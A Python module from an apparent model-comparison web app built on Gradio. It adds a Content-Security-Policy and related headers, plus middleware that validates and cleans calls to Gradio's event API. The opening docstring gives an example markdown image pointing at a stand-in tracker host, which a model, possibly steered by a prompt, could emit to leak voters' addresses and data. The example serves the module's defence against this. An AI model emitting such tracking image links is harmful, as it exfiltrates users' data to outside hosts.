"""The HTTP edge of the app: response headers, and a guard in front of Gradio's event API.

Headers: they keep what models write from reaching beyond the page.

Why: answers are rendered as markdown, so a model (or a prompt that talks it
into it) can write ``![](https://tracker.example/?q=…)``. Gradio's sanitizer
removes scripts and event handlers, but an image from another host would
still be fetched by every voter's browser, leaking their address and whatever
the URL carries. The Content-Security-Policy below allows images, media and
frames from this server only; the page's own scripts and styles are not
restricted (Gradio relies on inline ones).
"""

from __future__ import annotations

import json
from collections import OrderedDict
from dataclasses import dataclass
from typing import Any, Awaitable, Callable
from urllib.parse import parse_qs

from arena.prompts import clean_text

CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; frame-src 'self'; object-src 'none'; base-uri 'self'"
)
HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"no-referrer"),
)

Scope = dict[str, Any]
Message = dict[str, Any]


class SecurityHeaders:
    """ASGI middleware adding :data:`HEADERS` to every HTTP response (passed to Gradio through ``app_kwargs``)."""

    def __init__(self, app: Callable[..., Awaitable[None]]) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Callable[[], Awaitable[Message]], send: Callable[[Message], Awaitable[None]]) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                present = {name.lower() for name, _ in message.get("headers", [])}
                message["headers"] = list(message.get("headers", [])) + [h for h in HEADERS if h[0] not in present]
            await send(message)

        await self.app(scope, receive, send_with_headers)


# --- the API guard ----------------------------------------------------------------------------------------------

MAX_BODY_BYTES = 1_000_000
JOIN = "/gradio_api/queue/join"
CANCEL = "/gradio_api/cancel"
RESET = "/gradio_api/reset"  # Gradio's front end calls it after a cancel; a no-op in Gradio 6
NAMED_PREFIXES = ("/gradio_api/run/", "/gradio_api/api/", "/gradio_api/call/")
WRITE_METHODS = {"POST", "PUT", "PATCH", "DELETE"}
REMEMBERED_EVENTS = 100_000  # event ids issued, with their session (a cancel must come from the event's own session)
_TEXT_COMPONENTS = {"textbox", "dropdown", "markdown", "radio"}


def clean_json(value: Any) -> Any:
    """Every string in a JSON value (keys too) through :func:`clean_text`."""
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, list):
        return [clean_json(v) for v in value]
    if isinstance(value, dict):
        return {clean_text(k) if isinstance(k, str) else k: clean_json(v) for k, v in value.items()}
    return value


@dataclass(frozen=True)
class EventTable:
    """The events the server runs (JavaScript-only ones are left out): each one's input components, and the named ones.

    Read from the app's public configuration (``Blocks.config``, what ``/config`` serves), not from Gradio's
    function objects.
    """

    inputs: dict[int, list[dict[str, Any]]]  # event id (fn_index) -> its input components (type and props)
    named: frozenset[str]

    @classmethod
    def of(cls, config: dict[str, Any]) -> EventTable:
        components = {c["id"]: c for c in config.get("components", [])}
        served = [d for d in config.get("dependencies", []) if d.get("backend_fn")]  # JavaScript-only events run in the page
        inputs = {d["id"]: [components.get(i, {"type": "unknown"}) for i in d.get("inputs", [])] for d in served}
        named = frozenset(d["api_name"] for d in served if d.get("api_name"))
        return cls(inputs, named)


def _choice_values(component: dict[str, Any]) -> list[Any]:
    return [c[1] if isinstance(c, (tuple, list)) else c for c in (component.get("props", {}).get("choices") or [])]


def _input_problem(component: dict[str, Any], value: Any) -> str | None:
    """Why *value* cannot be the value of the input *component* (its configuration; None when it can).

    Choices are checked where they are fixed (a dropdown without custom
    values, a checkbox group): Gradio would refuse them too, but with a
    traceback in the log. Dropdowns whose choices change at run time take
    custom values and leave the check to their handler.
    """
    kind = component.get("type")
    if kind in _TEXT_COMPONENTS and value is not None and not isinstance(value, str):
        return "must be text"
    if kind == "checkbox" and value is not None and not isinstance(value, bool):
        return "must be true or false"
    if kind == "checkboxgroup" and value is not None:
        if not (isinstance(value, list) and all(isinstance(v, str) for v in value)):
            return "must be a list of texts"
        if any(v not in _choice_values(component) for v in value):
            return "names an unknown choice"
    if kind in ("dropdown", "radio") and value is not None and not component.get("props", {}).get("allow_custom_value"):
        if value not in _choice_values(component):
            return "names an unknown choice"
    return None


def _data_problem(inputs: list[dict[str, Any]], data: Any) -> str | None:
    if not isinstance(data, list):
        return "'data' must be a list of input values."
    if len(data) != len(inputs):
        return f"This event takes {len(inputs)} input values, not {len(data)}."
    for position, (component, value) in enumerate(zip(inputs, data), start=1):
        problem = _input_problem(component, value)
        if problem:
            return f"Input {position} of this event {problem}."
    return None


class ApiGuard:
    """ASGI middleware in front of Gradio's API: only the calls this app's page makes, each checked, text cleaned.

    Gradio trusts its own front end: an unknown ``fn_index`` raises ``KeyError``
    (a 500), a wrong number or type of values raises inside the event (a
    traceback in the log), a lone surrogate in the data breaks the event
    stream mid-response, and a cancel names any event of any session. So:

    - a request that writes (POST, PUT, PATCH, DELETE) reaches Gradio only on
      a route this app uses: joining the queue, cancelling, resetting, and the
      named routes of its own events; any other gets 404 with the reason
      (Gradio has more, for uploads, streaming inputs, its code editor...);
    - a join is checked against the app's event table (:class:`EventTable`,
      from *blocks*' public configuration), and the event id Gradio issues is
      remembered with its session, so that a cancel is accepted only from
      the session that joined that event;
    - a named call must name one of the app's events and carry its inputs;
    - every string is cleaned (:func:`clean_json`).
    """

    def __init__(self, app: Callable[..., Awaitable[None]], blocks: Any) -> None:
        self.app, self.blocks = app, blocks
        self._events: EventTable | None = None  # read once the app is configured (mounting sets its config)
        self._event_sessions: OrderedDict[str, str] = OrderedDict()  # event id -> session hash, oldest first

    async def __call__(self, scope: Scope, receive: Callable[[], Awaitable[Message]], send: Callable[[Message], Awaitable[None]]) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        path, method = scope.get("path", ""), scope.get("method", "GET")
        if path == "/gradio_api/queue/data" and not self._known_session(scope):
            # Gradio would start the event stream and then fail inside it (a broken response and a traceback).
            await _reject(send, 404, "No events are waiting for this session: join an event first.")
            return
        if method not in WRITE_METHODS:
            await self.app(scope, receive, send)
            return
        if method != "POST" or (path not in (JOIN, CANCEL, RESET) and not path.startswith(NAMED_PREFIXES)):
            await _reject(send, 404, f"Unknown route: {method} {path} is not a route of this app.")
            return
        body = await _read_body(receive)
        if body is None:
            await _reject(send, 413, f"Request body larger than {MAX_BODY_BYTES:,} bytes.")
            return
        try:
            payload = json.loads(body or b"null")
        except ValueError:
            await _reject(send, 400, "The request body is not JSON.")
            return
        problem = self._problem(path, payload)
        if problem:
            await _reject(send, 404 if problem.startswith(("Unknown route", "No such")) else 422, problem)
            return
        await self._forward(scope, receive, send, clean_json(payload))

    async def _forward(self, scope: Scope, receive: Callable[[], Awaitable[Message]], send: Callable[[Message], Awaitable[None]],
                       payload: Any) -> None:
        """Hand the cleaned request to Gradio; for a join, remember which session the issued event id belongs to."""
        cleaned = json.dumps(payload).encode()
        headers = [(k, v) for k, v in scope.get("headers", []) if k.lower() != b"content-length"]
        headers.append((b"content-length", str(len(cleaned)).encode()))
        sent = False

        async def replay() -> Message:
            nonlocal sent
            if sent:
                return await receive()  # after the body: disconnects and the like
            sent = True
            return {"type": "http.request", "body": cleaned, "more_body": False}

        outgoing = send
        if scope.get("path") == JOIN:
            session = payload.get("session_hash")
            answer = bytearray()

            async def outgoing(message: Message) -> None:  # replaces send: the join's answer carries the event id
                if message["type"] == "http.response.body":
                    answer.extend(message.get("body", b""))
                    if not message.get("more_body"):
                        self._remember(bytes(answer), session)
                await send(message)

        await self.app({**scope, "headers": headers}, replay, outgoing)

    def _remember(self, answer: bytes, session: Any) -> None:
        try:
            event_id = json.loads(answer).get("event_id")
        except (ValueError, AttributeError):
            return  # an error answer: no event was issued
        if isinstance(event_id, str) and isinstance(session, str):
            self._event_sessions[event_id] = session
            if len(self._event_sessions) > REMEMBERED_EVENTS:
                self._event_sessions.popitem(last=False)

    def _event_table(self) -> EventTable:
        if self._events is None:
            self._events = EventTable.of(self.blocks.config)
        return self._events

    def _known_session(self, scope: Scope) -> bool:
        session_hash = parse_qs(scope.get("query_string", b"").decode("latin-1")).get("session_hash", [""])[0]
        pending = pending_sessions(self.blocks)
        return pending is None or session_hash in pending  # without Gradio's table to ask, Gradio decides

    def _problem(self, path: str, payload: Any) -> str | None:
        if not isinstance(payload, dict):
            return "The request body must be a JSON object."
        session_hash = payload.get("session_hash")
        if session_hash is not None and not isinstance(session_hash, str):
            return "'session_hash' must be text."
        events = self._event_table()
        if path == JOIN:
            fn_index = payload.get("fn_index")
            if not isinstance(fn_index, int) or isinstance(fn_index, bool) or fn_index not in events.inputs:
                return f"Unknown event {fn_index!r}."
            return _data_problem(events.inputs[fn_index], payload.get("data", []))
        if path == CANCEL:
            event_id = payload.get("event_id")
            if not isinstance(event_id, str) or self._event_sessions.get(event_id) != session_hash:
                return "No such event in this session: only the page that started an event can cancel it."
            return None
        if path == RESET:
            return None
        name = path.rstrip("/").split("/")[-1]
        if name not in events.named:
            return f"Unknown route: this app has no event named {name!r}."
        if not isinstance(payload.get("data", []), list):
            return "'data' must be a list of input values."
        return None  # (named calls leave out State inputs: Gradio fills them, and checks the rest)


def pending_sessions(blocks: Any) -> Any:
    """Gradio's table of sessions with an open event stream, or None if its queue no longer has one.

    A read of Gradio's internals (registered in arena/patches.py as ``session_streams_known``).
    """
    return getattr(getattr(blocks, "_queue", None), "pending_messages_per_session", None)


async def _read_body(receive: Callable[[], Awaitable[Message]]) -> bytes | None:
    """The whole request body, or None once it exceeds :data:`MAX_BODY_BYTES`."""
    body = b""
    while True:
        message = await receive()
        body += message.get("body", b"")
        if len(body) > MAX_BODY_BYTES:
            return None
        if not message.get("more_body"):
            return body


async def _reject(send: Callable[[Message], Awaitable[None]], status: int, detail: str) -> None:
    body = json.dumps({"detail": detail}).encode()
    await send({"type": "http.response.start", "status": status,
                "headers": [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode()), *HEADERS]})
    await send({"type": "http.response.body", "body": body})
